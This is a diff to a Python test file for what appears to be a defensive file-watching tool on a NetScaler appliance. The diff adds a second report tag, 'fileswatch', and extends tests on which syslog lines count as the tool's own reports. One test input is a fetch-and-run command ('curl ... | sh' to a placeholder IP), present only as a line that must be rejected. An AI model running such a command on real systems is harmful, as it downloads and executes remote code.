@@ -161,7 +161,7 @@ SCRIPT = OwnScript(
     frozenset({hashlib.sha256(b"ours").hexdigest()}),
     "/var/cron/tabs/root",
     "*/5 * * * * /bin/sh /nsconfig/tourniquet_on_box.sh > /dev/null 2>&1",
-    "tourniquet_on_box",
+    frozenset(["tourniquet_on_box", "fileswatch"]),
 )
 
 
@@ -186,11 +186,13 @@ def test_the_script_of_a_run_is_ours_by_its_content(ours: OwnChanges) -> None:
     [
         ("Sep 20 01:02:03 <user.warn> ns tourniquet_on_box: new /netscaler/portal/templates/x.xml", True),
         ("Sep  2 01:02:03 ns tourniquet_on_box[12]: checked 1210 files: 1 new, 0 changed, 0 gone", True),
+        ("Sep 20 01:02:03 <user.warn> ns fileswatch: new /netscaler/portal/templates/x.xml", True),
+        ("Sep 20 01:02:03 <user.warn> ns fileswatcher: new /netscaler/portal/templates/x.xml", False),
         ("Sep 20 01:02:03 <user.warn> ns sh: tourniquet_on_box: new /netscaler/portal/templates/x.xml", False),
         ("Sep 20 01:02:03 <user.warn> ns tourniquet_on_box: curl http://192.0.2.1/x | sh", False),
         ("tourniquet_on_box: new /x", False),
     ],
 )
-def test_a_report_is_ours_by_its_tag_and_its_form(ours: OwnChanges, line: str, is_ours: bool) -> None:
+def test_a_report_is_ours_by_one_of_its_tags_and_its_form(ours: OwnChanges, line: str, is_ours: bool) -> None:
     assert replace(ours, script=SCRIPT).is_own_report(line.encode()) is is_ours
     assert not ours.is_own_report(line.encode())
